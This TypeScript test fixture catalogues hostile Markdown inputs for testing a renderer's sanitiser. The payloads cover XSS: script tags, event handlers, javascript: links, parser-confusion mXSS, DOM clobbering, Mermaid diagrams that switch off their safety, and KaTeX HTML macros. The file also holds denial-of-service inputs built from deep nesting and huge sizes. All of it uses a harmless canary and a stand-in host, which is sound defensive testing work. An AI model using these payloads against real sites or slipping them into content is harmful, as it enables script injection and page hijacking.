// What a hostile writer might try, each with what it is after. Code that runs sets `top.canary`; what loads asks for an
// address with `canary` in it, on another host or on ours.

const run = "top.canary=1;alert(1)";
const away = "https://canary.example";
const mermaid = (source: string) => `\`\`\`mermaid\n${source}\n\`\`\``;

export const hostileTexts: Record<string, string> = {
  // Scripts
  "a script": `<script>${run}</script>`,
  "a script in capitals with a broken end": `<SCRIPT\n>${run}</SCRIPT foo>`,
  "a script from another host": `<script src="${away}/x.js"></script>`,
  "a script of ours, loaded again": `<script src="/canary.js"></script>`,
  "a script inside SVG": `<svg><script>${run}</script></svg>`,
  "a script inside MathML": `<math><mtext><script>${run}</script></mtext></math>`,
  "a script in a comment that is none": `<!--><script>${run}</script>-->`,
  "a script split by Markdown": `<scr**ipt>${run}</scr**ipt> <scr<script>ipt>${run}</script>`,
  "a script in a template": `<template><script>${run}</script></template>`,
  "a script after noscript": `<noscript><p title="</noscript><script>${run}</script>"></noscript>`,
  "a module preload": `<link rel="modulepreload" href="${away}/x.js"><link rel="preload" as="script" href="/canary.js">`,
  // Handlers
  "an image with onerror": `<img src=x onerror="${run}">`,
  "an image with onload": `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run}">`,
  "SVG with onload": `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  "details with ontoggle": `<details open ontoggle="${run}"><summary>x</summary>y</details>`,
  "an input that takes focus": `<input autofocus onfocus="${run}"><div tabindex=0 autofocus onfocus="${run}">x</div>`,
  "a body with onload": `<body onload="${run}" onpageshow="${run}">text</body>`,
  "a marquee": `<marquee onstart="${run}">x</marquee>`,
  "a transition with a handler": `<p style="transition:all 1s" ontransitionend="${run}" onmouseover="${run}">x</p>`,
  "a popover with a handler": `<button popovertarget=x>x</button><div id=x popover onbeforetoggle="${run}">y</div>`,
  // Links
  "a javascript link": `[click](javascript:${run})`,
  "a javascript link, disguised": `[a](JaVaScRiPt&#58;${run}) [b](java&#x0A;script:${run}) [c](&#x01;javascript:${run}) [d](<java\tscript:${run}>)`,
  "a javascript link in HTML": `<a href="javascript:${run}">x</a><a href=" &#14; javascript:${run}">y</a><a xlink:href="javascript:${run}">z</a>`,
  "a javascript autolink": `<javascript:${run}>`,
  "a data link": `[x](data:text/html,<script>${run}</script>) <a href="data:text/html;base64,PHNjcmlwdD4=">y</a>`,
  "vbscript, file, blob and intent links": `[a](vbscript:x) [b](file:///etc/passwd) [c](blob:https://x/y) [d](intent://x#Intent;end)`,
  "a reference with a javascript target": `[x][1]\n\n[1]: javascript:${run}`,
  "a footnote with a javascript link": `x[^1]\n\n[^1]: [y](javascript:${run}) <img src=/canary.png>`,
  "a link that pings": `<a href="${away}/" ping="/canary-ping ${away}/ping" target="_top" rel="opener" download>x</a>`,
  "an image map": `<map name="m"><area shape="default" href="javascript:${run}"></map><img usemap="#m" src="/canary.png">`,
  // Loads
  "images on another host": `![x](${away}/a.png) <img src="${away}/b.png" srcset="${away}/c.png 2x" lowsrc="${away}/d.png">`,
  "images on this host": `![x](/canary.png) ![y](/api/v1/canary) ![z](canary.png "t")`,
  "an image without a scheme": `![x](//canary.example/a.png) ![y](\\\\\\\\canary.example/b.png)`,
  "a picture and its sources": `<picture><source srcset="${away}/a.png"><source srcset="/canary.png"><img src="/canary.png"></picture>`,
  "video, audio and track": `<video src="${away}/a.mp4" poster="${away}/p.png" autoplay></video><audio src="/canary.mp3" autoplay><track src="/canary.vtt"></audio>`,
  frames: `<iframe src="${away}/"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><frame src="/canary"><object data="/canary.svg"></object><embed src="${away}/e.svg">`,
  "a style sheet": `<link rel="stylesheet" href="${away}/a.css"><style>@import "${away}/b.css"; body { background: url(/canary.png); display: none }</style>`,
  "style attributes": `<p style="background:url(${away}/a.png);position:fixed;inset:0">x</p><table background="${away}/b.png"><tr><td background="/canary.png">x</td></tr></table>`,
  "a font": `<style>@font-face{font-family:x;src:url(${away}/f.woff2)}*{font-family:x}</style><font face="x">y</font>`,
  "SVG that loads": `<svg><image href="${away}/a.png"/><use href="/canary.svg#x"/><feImage href="${away}/b.png"/></svg>`,
  "an SVG image in a data link": `![x](data:image/svg+xml,%3Csvg%20xmlns='http://www.w3.org/2000/svg'%20onload='${run}'%3E%3Cimage%20href='${away}/a.png'/%3E%3C/svg%3E)`,
  "hints to connect": `<link rel="dns-prefetch" href="${away}"><link rel="preconnect" href="${away}"><link rel="prefetch" href="/canary"><link rel="icon" href="/canary.ico">`,
  // The page itself
  "a refresh": `<meta http-equiv="refresh" content="0;url=${away}/">`,
  "a policy of its own": `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  "a base": `<base href="${away}/" target="_blank">\n\n[x](y) ![z](w.png)`,
  "a form that asks for the password": `<form action="${away}/" method="post"><input name="password" type="password"><button formaction="${away}/">Unlock</button></form><isindex action="${away}">`,
  "ids that shadow the document": `<a id="plain">a</a><a id="forms">b</a><a name="getElementById">c</a><span id="body">d</span><a id="__open">e</a><a id="location" href="https://x.example">f</a>`,
  "names that shadow the document": `<form name="cookie"></form><img name="forms"><object name="scripts"></object><input name="getElementById"><a name="all">x</a>`,
  "headings that shadow the document": `# forms\n\n# getElementById\n\n# plain\n\n# body`,
  "custom elements and slots": `<x-y is="z" onclick="${run}">a</x-y><slot name="x"></slot><dialog open>b</dialog><portal src="${away}"></portal>`,
  "keys and microdata": `<a accesskey="x" tabindex="1" href="https://x.example">a</a><div itemscope itemtype="${away}">b</div><p contenteditable>c</p>`,
  // Broken on purpose
  "tags that a parser turns around": `<svg></p><style><a id="</style><img src=/canary.png onerror=${run}>">`,
  "MathML that a parser turns around": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/canary.png onerror=${run}&gt;">`,
  "a table that never ends": `<table><tr><td><![CDATA[<script>${run}</script>]]><select><option><script>${run}</script>`,
  "plaintext and textarea": `<textarea><script>${run}</script></textarea><xmp><script>${run}</script></xmp><plaintext><script>${run}</script>`,
  "a processing instruction": `<?xml-stylesheet href="${away}/a.css"?><!DOCTYPE html [<!ENTITY x SYSTEM "${away}">]>&x;`,
  // Code fences
  "a fence with a hostile language": `\`\`\`"><img/src=/canary.png/onerror=${run}> {onload="${run}"}\n<script>${run}</script>\n\`\`\``,
  "a fence whose language is a member of every object":
    "```__proto__\nx\n```\n\n```constructor\ny\n```\n\n```toString\nz\n```",
  // Diagrams
  "a diagram that runs on a click": mermaid(
    `graph TD\nA[x]-->B[y]\nclick A call alert("1")\nclick B href "javascript:${run}"\nclick A "${away}/" _blank`,
  ),
  "a diagram with tags in its labels": mermaid(
    `graph TD\nA["<img src=/canary.png onerror='${run}'>"]-->B["<script>${run}</script><b>y</b>"]`,
  ),
  "a diagram that turns the safety off": mermaid(
    `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "secure": []}}%%\ngraph TD\nA["<img src='${away}/a.png' onerror='${run}'>"]-->B`,
  ),
  "a diagram that turns the safety off by front matter": mermaid(
    `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  themeCSS: "@import url(${away}/a.css);"\n---\ngraph TD\nA["<iframe src='${away}'>"]-->B`,
  ),
  "a diagram with CSS that loads": mermaid(
    `%%{init: {"themeCSS": "* { background: url(${away}/a.png) } @import url(/canary.css);", "fontFamily": "x;}*{background:url(/canary.png)}"}}%%\ngraph TD\nA-->B`,
  ),
  "a diagram with variables that load": mermaid(
    `%%{init: {"theme": "base", "themeVariables": {"primaryColor": "red;}*{background:url(${away}/a.png)}", "fontFamily": "x;}@import '/canary.css';"}}}%%\ngraph TD\nA-->B`,
  ),
  "a diagram with classes that load": mermaid(
    `graph TD\nA-->B\nclassDef x fill:url(${away}/a.svg),background:url(/canary.png)\nclass A x\nstyle B fill:url(${away}/b.svg)\nlinkStyle 0 stroke:url(/canary.svg)`,
  ),
  "a diagram with an image for a node": mermaid(
    `graph TD\nA@{ img: "${away}/a.png", label: "x", w: 60, h: 60 }-->B@{ img: "/canary.png" }\nC@{ icon: "fa:user" }`,
  ),
  "a diagram with filters, masks and pointers that load": mermaid(
    `graph TD\nA-->B\nclassDef x filter:url(/canary.svg#f),mask-image:url(${away}/m.png),cursor:url(/canary.cur)\nclass A x\nstyle B filter:u\\72l(/canary.svg#g),content:url(/canary.png)`,
  ),
  "a diagram with tags as entities": mermaid(
    `graph TD\nA["&lt;img src=/canary.png onerror='${run}'&gt;"]-->B["#lt;img src=/canary.png onerror='${run}'#gt;"]\nC["\`<<img src=/canary.png onerror='${run}'>\`"]`,
  ),
  "a sequence with an icon": mermaid(
    `sequenceDiagram\nparticipant A\nproperties A: {"icon": "/canary.png", "class": "x"}\nA->>A: x`,
  ),
  "a map of containers with pictures": mermaid(
    `C4Context\nPerson(a, "A", "x", $sprite="/canary.png", $link="javascript:${run}")\nUpdateElementStyle(a, $bgColor="url(/canary.svg#x)")`,
  ),
  "classes, states, minds and requirements with tags": [
    'classDiagram\nclass A["X"]\nA : +b()',
    "stateDiagram-v2\ns1 : X",
    "mindmap\n  root((X))",
    'erDiagram\nA ||--o{ B : "X"',
    'pie title X\n"X" : 1',
    "gantt\ntitle X\nsection X\nX :a, 2024-01-01, 1d",
    "timeline\ntitle X\n2020 : X",
    "journey\ntitle X\nsection X\nX: 5: X",
  ]
    .map((source) => mermaid(source.replaceAll("X", `<img src=/canary.png onerror=top.canary=1>`)))
    .join("\n\n"),
  "a sequence with links and tags": mermaid(
    `sequenceDiagram\nparticipant A\nlink A: x @ javascript:${run}\nlinks A: {"y": "${away}/"}\nA->>B: <img src=/canary.png onerror=${run}>\nNote over A: <script>${run}</script>`,
  ),
  // Formulas
  "a formula with links": `$$\n\\href{javascript:${run}}{x} \\url{${away}/}\n$$`,
  "a formula with an image": `$$\n\\includegraphics[height=1em]{${away}/a.png} \\includegraphics{/canary.png}\n$$`,
  "a formula with attributes": `$$\n\\htmlId{forms}{x} \\htmlClass{y}{z} \\htmlStyle{background:url(${away}/a.png)}{s} \\htmlData{onclick=${run}}{d}\n$$`,
  "a formula with tags": `$$\n\\text{<img src=/canary.png onerror=${run}>} </span><script>${run}</script>\n$$`,
  "a formula that never ends": `$$\n\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\a\\a}\\a \\rule{100000em}{100000em}\n$$`,
};

const languages =
  "abap ada apl asm bash c clojure cobol cpp crystal csharp css d dart diff elixir elm erlang fortran go graphql groovy haskell hcl html http ini java js json julia kotlin latex lisp lua make matlab nginx nim nix ocaml pascal perl php powershell prolog python r razor ruby rust sass scala scheme scss shell solidity sql swift tcl toml ts tsx vb vue wasm wgsl xml yaml zig".split(
    " ",
  );
const lines = (count: number, line: (n: number) => string) =>
  Array.from({ length: count }, (_, n) => line(n)).join("\n");
const fence = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\`\n`;
const formula = (source: string) => `$$\n${source}\n$$\n`;
/** Fills what a paste may hold. */
const filled = (piece: string, characters = 76_000) => piece.repeat(Math.floor(characters / piece.length));
/** Every one of these begins and ends with a word by which it is found, rendered or plain. */
const readable = (text: string) => `readable\n\n${text}\n\nend`;

/** Deeper, wider or more tangled than a renderer may go: the text has to stay readable, and the page alive. */
export const heavyTexts = {
  // Nested
  "quotes, one in the other": () => readable(`${"> ".repeat(3000)}x`),
  "lists, one in the other": () => readable(`${"- ".repeat(3000)}x`),
  "numbered lists, one in the other": () => readable(`${"1. ".repeat(3000)}x`),
  "quotes and lists, one in the other": () => readable(filled(">- ")),
  "quotes that grow": () => readable(lines(380, (n) => `${">".repeat(n)} x`)),
  "lists that grow": () => readable(lines(270, (n) => `${"  ".repeat(n)}- x`)),
  "tags, one in the other": () => readable("<div>".repeat(5000)),
  "tables, one in the other": () => readable("<table><tr><td>".repeat(3000)),
  "details, one in the other": () => readable("<details><summary>x</summary>".repeat(2000)),
  "details, thousands": () => readable(filled("<details><summary>x</summary>y</details>\n")),
  "spans, thousands": () => readable(filled("<b>x</b>")),
  "tags that never close, misnested": () => readable(filled("<b><i><p><a href=x>")),
  "tags whose ends are missing": () => readable(filled("<a <b ")),
  "comments that never close": () => readable(filled("<!--")),
  "emphasis, one in the other": () => readable(`${"*a **b ".repeat(5000)}${"** *".repeat(5000)}`),
  "footnotes, one in the other": () => readable(lines(2500, (n) => `[^${n}]: [^${n + 1}]\n`)),
  // Marks that may open or close
  "marks of emphasis, crossed": () => readable(filled("*_")),
  "marks of emphasis that open only": () => readable(filled("**a ", 100_000)),
  "marks of emphasis that may do both": () => readable(filled("a*")),
  "marks of emphasis of every length": () =>
    readable(lines(500, (n) => `${"*".repeat(n % 150)}a${"_".repeat(n % 140)}`)),
  "strikethrough that never closes": () => readable(filled("~~a")),
  "brackets that never close": () => readable("[".repeat(5000)),
  "brackets, thousands more": () => readable(filled("[")),
  "brackets that only close": () => readable(filled("]")),
  "brackets in pairs, one in the other": () => readable(`${"[".repeat(20_000)}x${"]".repeat(20_000)}`),
  "references to nothing": () => readable(filled("[a]")),
  "references to one of thousands": () => readable(`${filled("[a]", 30_000)}\n\n${lines(3000, (n) => `[a${n}]: x`)}`),
  "links that never end": () => readable("[a](".repeat(18_000)),
  "links with brackets in them": () => readable(filled("[a](<b")),
  "images, one in the other": () => readable(`${"![".repeat(9000)}x${"](y)".repeat(9000)}`),
  "backticks of every length": () => readable(lines(380, (n) => `${"`".repeat(n)}a`)),
  "backticks that never meet": () => readable(filled("`a``b```c")),
  "escapes and entities": () => readable(filled("\\&amp;&#x41;&nosuch;")),
  "addresses without end": () => readable(filled("www.a.b_c.")),
  "mail addresses without end": () => readable(filled("a@b.c@")),
  "an address with thousands of brackets": () => readable(`https://a.example/${filled("(")}`),
  dollars: () => readable(filled("$$ $ ")),
  // Blocks
  "headings underlined, thousands": () => readable("a\n-\n".repeat(18_000)),
  "headings underlined twice": () => readable("a\n=\n".repeat(18_000)),
  "headings, thousands, all the same": () => readable(filled("# a\n")),
  "tasks, thousands": () => readable(lines(9000, () => "- [x] a")),
  "list items, as many as fit": () => readable(filled("- a\n")),
  "list items in one line": () => readable(filled("- a ")),
  "numbers that begin no list": () => readable(filled("1.\n")),
  "lists of every kind": () => readable(filled("- a\n+ b\n* c\n1. d\n2) e\n")),
  "quotes without end": () => readable(filled(">\n")),
  "rules, thousands": () => readable(filled("***\n")),
  "definitions, thousands": () => readable(lines(6000, (n) => `[x${n}]: y${n}`)),
  "definitions without an end": () => readable(filled('[a]: b "c\n')),
  "footnotes, thousands": () => readable(filled("[^1]", 55_000).concat("\n\n[^1]: it")),
  "footnotes, each with its own": () => readable(lines(3000, (n) => `[^${n}]\n\n[^${n}]: it\n`)),
  "a footnote that is asked for 14,000 times": () => readable(`${"[^a]".repeat(14_000)}\n\n[^a]: it`),
  "a table of thousands of rows": () => readable(`|a|b|\n|-|-|\n${"|1|2|\n".repeat(12_000)}`),
  "a table of thousands of columns": () => readable(`|${"a|".repeat(9000)}\n|${"-|".repeat(9000)}\n|b|`),
  "a table whose rows are filled up": () =>
    readable(`|${"a|".repeat(5000)}\n|${"-|".repeat(5000)}\n${"b\n".repeat(5000)}`),
  "tables, thousands": () => readable(filled("|a|\n|-|\n\n")),
  "a rule of a table that is none": () => readable(`|${"-".repeat(75_000)}x`),
  "lines that might be a table": () => readable(filled("a|b\n")),
  "cells that span": () => readable(`<table>${'<tr><td colspan="9" rowspan="9">x</td></tr>'.repeat(1500)}</table>`),
  "spaces, tabs and line breaks": () => readable(filled(" \t\n \n")),
  "spaces before a word": () => readable(`${" ".repeat(75_000)}x`),
  "hard breaks": () => readable(filled("a  \n")),
  "one word": () => readable("x".repeat(75_000)),
  "marks that stand on each other": () => readable(`a${"\u0301".repeat(37_000)}`),
  "letters from right to left and back": () => readable(filled("\u202eabc\u202d\u2067x")),
  "emoji that are joined": () => readable(filled("👨‍👩‍👧‍👦‍")),
  // Code
  "a line of code without end": () => readable(fence("js", "a=1;".repeat(19_000))),
  "a line of code that is all brackets": () => readable(fence("js", "(".repeat(19_000))),
  "lines of code, empty, as many as fit": () => readable(fence("", "\n".repeat(75_000))),
  "code of very many words": () =>
    readable(
      fence(
        "js",
        lines(1200, () => "a+b+c+d+e+f"),
      ),
    ),
  "fences, each in another language": () =>
    readable(languages.map((name) => fence(name, "x = (1 + '2') # {}\n".repeat(20))).join("\n")),
  "fences, thousands": () => readable(filled(fence("js", "a()"))),
  "fences that never close": () => readable(filled("```a\n~~~b\n")),
  "code that its grammar cannot end": () =>
    readable(
      ["md", "html", "php", "vue", "razor", "latex", "perl", "ruby"]
        .map((name) => fence(name, "<a ${`[{(\"'/*_ ".repeat(900)))
        .join("\n"),
    ),
  "a pattern in code that backtracks": () =>
    readable(
      ["js", "ts", "cpp", "python", "sql"]
        .map((name) => fence(name, `${"a ".repeat(4000)}!\n${"<".repeat(4000)}`))
        .join("\n"),
    ),
  // Formulas and diagrams
  "a formula without end": () => readable(formula("x+".repeat(37_000))),
  "a formula of thousands of cells": () => readable(formula(`\\begin{matrix}${"&".repeat(20_000)}\\end{matrix}`)),
  "a formula that is nested": () => readable(formula(`${"\\sqrt{".repeat(2000)}x${"}".repeat(2000)}`)),
  "a formula of fractions": () => readable(formula(`${"\\frac{1}{".repeat(1500)}x${"}".repeat(1500)}`)),
  "a formula of macros": () =>
    readable(formula("\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b}".concat("\\c".repeat(4000)))),
  "formulas, thousands": () => readable(filled("$$x$$ ")),
  "formulas, large, hundreds": () => readable(filled(formula("\\sum_{i=0}^{n} \\frac{x_i^2}{\\sqrt{y_i}}"))),
  "formulas that are none, thousands": () => readable(filled("$$\\nope{$$ ")),
  "diagrams, hundreds": () => readable("```mermaid\ngraph TD\n  A --> B\n```\n".repeat(300)),
  // More than a page of ours makes
  "a text of megabytes": () => readable("word ".repeat(800_000)),
  "lines, millions": () => `readable\n${"a\n".repeat(10_000_000)}`,
  "paragraphs, hundreds of thousands": () => `readable\n\n${"a\n\n".repeat(400_000)}`,
} satisfies Record<string, () => string>;
